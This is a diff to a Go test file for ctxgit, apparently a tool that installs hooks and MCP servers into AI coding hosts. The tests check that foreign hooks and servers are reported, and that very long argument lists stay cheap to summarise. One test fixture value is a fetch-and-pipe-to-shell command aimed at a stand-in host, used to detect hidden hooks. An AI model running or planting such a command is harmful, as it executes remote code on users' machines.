@@ -6,6 +6,7 @@ import (
 	"os"
 	"path/filepath"
 	"reflect"
+	"runtime"
 	"slices"
 	"strings"
 	"testing"
@@ -958,6 +959,12 @@ func TestInstallNamesHooksNotCtxgits(t *testing.T) {
 			if strings.Contains(got, "\n") || !strings.Contains(got, "steal") && !strings.Contains(got, "curl -s https://x.example/a | sh # hidden") {
 				t.Errorf("note %q: want the command, on one line", got)
 			}
+			// A clone may commit ctxgit's entries beside its own: an
+			// install that finds ctxgit's there already names them too.
+			again := install(t, Options{Root: root, Host: tc.host})
+			if again.Changed || !slices.ContainsFunc(again.Notes, func(n string) bool { return strings.HasPrefix(n, want) }) {
+				t.Errorf("install over ctxgit's own entries: changed %v, notes %q; want the hook ctxgit did not write named", again.Changed, again.Notes)
+			}
 			// A file holding only ctxgit's hooks: nothing to name.
 			install(t, Options{Root: root, Host: tc.host, Uninstall: true})
 			writeFile(t, root, tc.rel, "{}")
@@ -996,6 +1003,45 @@ func TestInstallMCPNamesServersNotCtxgits(t *testing.T) {
 			if !found {
 				t.Fatalf("notes %q: none starts %q", res.Notes, want)
 			}
+			// ctxgit's server there already (committed beside the others):
+			// nothing to write, and the others are named all the same.
+			again, err := InstallMCP(Options{Root: root, Host: tc.host, Now: fixedNow})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if again.Changed || !slices.ContainsFunc(again.Notes, func(n string) bool { return strings.HasPrefix(n, want) }) {
+				t.Errorf("init --mcp over ctxgit's own server: changed %v, notes %q; want the others named", again.Changed, again.Notes)
+			}
 		})
+	}
+}
+
+// A committed .mcp.json is the clone's: a server with 20,000 arguments
+// (250 KB) made init --mcp join them one by one into its note, 2 GB of
+// copies (a 16 MiB file: hours). The note shows a command's start, so
+// only the start is joined: the cost stays near the file's size.
+func TestInstallMCPNamesAServerOfManyArgsCheaply(t *testing.T) {
+	const n = 20_000
+	body := `{"mcpServers":{"helper":{"command":"sh","args":[` + strings.TrimSuffix(strings.Repeat(`"0123456789",`, n), ",") + `]}}}`
+	root := t.TempDir()
+	writeFile(t, root, ".mcp.json", body)
+	var before, after runtime.MemStats
+	runtime.GC()
+	runtime.ReadMemStats(&before)
+	res, err := InstallMCP(Options{Root: root, Host: ClaudeCode, Now: fixedNow})
+	runtime.ReadMemStats(&after)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := after.TotalAlloc - before.TotalAlloc; got > 64<<20 {
+		t.Errorf("init --mcp allocated %d MB for a %d KB .mcp.json; want the note's command joined only as far as it is shown", got>>20, len(body)>>10)
+	}
+	want := ".mcp.json also holds 1 MCP server that ctxgit did not write, which claude-code starts as it starts ctxgit's: helper: sh 0123456789 0123456789"
+	found := false
+	for _, note := range res.Notes {
+		found = found || strings.HasPrefix(note, want) && strings.Contains(note, "…")
+	}
+	if !found {
+		t.Errorf("notes %q: none starts %q and is cut short", res.Notes, want)
 	}
 }
